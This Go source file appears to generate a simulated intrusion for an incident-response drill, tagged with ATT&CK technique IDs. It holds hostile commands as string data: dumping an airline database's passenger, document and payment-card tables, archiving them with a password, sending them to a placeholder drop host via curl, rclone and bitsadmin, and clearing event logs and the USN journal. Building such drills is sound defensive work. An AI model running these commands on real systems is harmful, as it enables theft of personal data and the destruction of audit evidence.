package booking

import (
	"fmt"
	"time"

	"github.com/contrail-ir/contrail/drill/scene"
)

// dump: the passenger records leave the database as files.
func (s story) dump(f *foothold) {
	h := s.DB
	at := s.At(4, 1, 12, 9)
	tools := `C:\Program Files\Microsoft SQL Server\Client SDK\ODBC\170\Tools\Binn\`

	a := s.Act("db-query", h, "T1005", "collection", at, "The passenger tables are looked up and counted", "db-implant")
	_, ran := s.viaShell(at, f.onDB, tools+"SQLCMD.EXE", `sqlcmd -S localhost -E -d RESERVATIONS -Q "SELECT COUNT(*) FROM dbo.Passenger"`)
	a.Note(ran...)

	at = at.Add(6 * time.Minute)
	a = s.Act("db-dump", h, "T1005", "collection", at, "Passengers, documents and payments are written to files", "db-query")
	a.CausedBy = append(a.CausedBy, "db-implant")
	for i, table := range []string{"Passenger", "TravelDocument", "PaymentCard"} {
		t := at.Add(time.Duration(i*8) * time.Minute)
		file := stagingFolder + table + ".dat"
		p, ran := s.viaShell(t, f.onDB, tools+"bcp.exe", `bcp RESERVATIONS.dbo.`+table+` out `+file+` -c -T -S localhost`)
		a.Note(ran...)
		a.Note(s.Create(t.Add(2*time.Second), p, file))
	}
	p, ran := s.viaShell(at.Add(30*time.Minute), f.onDB, tools+"SQLCMD.EXE",
		`sqlcmd -S localhost -E -Q "BACKUP DATABASE RESERVATIONS TO DISK='C:\ProgramData\AeroSync\tmp\res.bak' WITH COPY_ONLY"`)
	a.Note(ran...)
	a.Note(s.Create(at.Add(30*time.Minute+2*time.Second), h.Server, stagingFolder+"res.bak").Joins(p.Key()))
	_, ran = s.viaShell(at.Add(41*time.Minute), f.onDB, `C:\oracle\client19\bin\expdp.exe`, `expdp system schemas=LOYALTY directory=TMPDIR dumpfile=loy.dmp`)
	a.Note(ran...)

	at = s.At(4, 2, 20, 50)
	a = s.Act("db-archive", h, "T1560.001", "collection", at, "The files are packed with a password, in volumes", "db-dump")
	a.CausedBy = append(a.CausedBy, "db-implant")
	seven := `C:\ProgramData\AeroSync\7z.exe`
	shell, ran := s.Run(at, f.onDB, cmdExe, `"cmd.exe" /c `+seven, f.dbLogon)
	a.Note(ran...)
	p, ran = s.Run(at.Add(time.Second), shell, seven, seven+` a -t7z -mhe=on -pR0ute-66-Sky -v500m `+stagingFolder+`fares.7z `+stagingFolder+`*.dat`, f.dbLogon)
	a.Note(ran...)
	for i := range 4 {
		a.Note(s.Create(at.Add(time.Duration(2+i*40)*time.Second), p, fmt.Sprintf(`%sfares.7z.%03d`, stagingFolder, i+1)))
	}
	a.Note(s.End(at.Add(4*time.Minute), p))
	rar := `C:\ProgramData\AeroSync\rar.exe`
	p, ran = s.viaShell(at.Add(6*time.Minute), f.onDB, rar, rar+` a -hpR0ute-66-Sky -v250m -m1 `+stagingFolder+`loy.rar `+stagingFolder+`loy.dmp`)
	a.Note(ran...)
	a.Note(s.Create(at.Add(6*time.Minute+3*time.Second), p, stagingFolder+"loy.part1.rar"))
}

// send: the archives leave by three tools.
func (s story) send(f *foothold) {
	h := s.DB
	at := s.At(4, 2, 41, 15)

	a := s.Act("db-upload", h, "T1048.002", "exfiltration", at, "The first volumes are sent with curl", "db-archive")
	a.CausedBy = append(a.CausedBy, "db-implant")
	out := func(t time.Time, p *scene.Process) {
		a.Note(s.Resolve(t, p, dropName, "::ffff:"+dropAddress+";"),
			s.Connect(t.Add(60*time.Millisecond), p, true, h.Here(), scene.Peer(dropAddress, dropName, 443)))
	}
	for i := range 2 {
		t := at.Add(time.Duration(i*6) * time.Minute)
		p, ran := s.viaShell(t, f.onDB, scene.System32+"curl.exe", fmt.Sprintf(`curl -k -T %sfares.7z.%03d https://%s/u/`, stagingFolder, i+1, dropName))
		a.Note(ran...)
		out(t.Add(time.Second), p)
	}

	at = at.Add(15 * time.Minute)
	a = s.Act("db-cloud", h, "T1567.002", "exfiltration", at, "The rest is copied to a storage service", "db-archive")
	a.CausedBy = append(a.CausedBy, "db-implant")
	rclone := `C:\ProgramData\AeroSync\rclone.exe`
	p, ran := s.viaShell(at, f.onDB, rclone, rclone+` copy `+stagingFolder+` drop:fares --include "*.7z.*" --transfers 8 --config C:\ProgramData\AeroSync\r.conf`)
	a.Note(ran...)
	out(at.Add(time.Second), p)

	at = at.Add(20 * time.Minute)
	a = s.Act("db-bits", h, "T1197", "exfiltration", at, "A background transfer job takes the loyalty data", "db-archive")
	a.CausedBy = append(a.CausedBy, "db-implant")
	p, ran = s.viaShell(at, f.onDB, scene.System32+"bitsadmin.exe", `bitsadmin /transfer fares /upload /priority foreground https://`+dropName+`/u/loy.part1.rar `+stagingFolder+`loy.part1.rar`)
	a.Note(ran...)
	out(at.Add(time.Second), p)
}

// cover: files and logs are removed where the theft took place.
func (s story) cover(f *foothold) {
	h := s.DB
	at := s.At(4, 3, 52, 20)

	a := s.Act("db-delete", h, "T1070.004", "defense-evasion", at, "Files and the change journal are deleted", "db-implant")
	shell, ran := s.Run(at, f.onDB, cmdExe, `"cmd.exe" /c del /f /q C:\ProgramData\AeroSync\tmp\*.*`, f.dbLogon)
	a.Note(ran...)
	a.Note(s.End(at.Add(time.Second), shell))
	_, ran = s.viaShell(at.Add(30*time.Second), f.onDB, scene.System32+"fsutil.exe", `fsutil usn deletejournal /d C:`)
	a.Note(ran...)

	at = at.Add(3 * time.Minute)
	a = s.Act("db-clear", h, "T1070.001", "defense-evasion", at, "The Security and the PowerShell log are cleared", "db-implant")
	_, ran = s.viaShell(at, f.onDB, scene.System32+"wevtutil.exe", `wevtutil cl Security`)
	a.Note(ran...)
	wiped := s.Wipe(at.Add(time.Second), f.dbLogon, h, scene.ChannelSecurity)
	a.Note(wiped)
	s.Starts["clearing"] = []*scene.Entry{wiped} // Security 1102
	_, ran = s.viaShell(at.Add(8*time.Second), f.onDB, scene.System32+"wevtutil.exe", `wevtutil cl "Windows PowerShell"`)
	a.Note(ran...)
	a.Note(s.Wipe(at.Add(9*time.Second), f.dbLogon, h, scene.ChannelClassicPS))
	p, ran := s.viaShell(at.Add(20*time.Second), f.onDB, powershell, `powershell -NoP -C "Clear-EventLog -LogName Application"`)
	a.Note(ran...)
	a.Note(s.Script(at.Add(20500*time.Millisecond), p, "Clear-EventLog -LogName Application", ""))
}
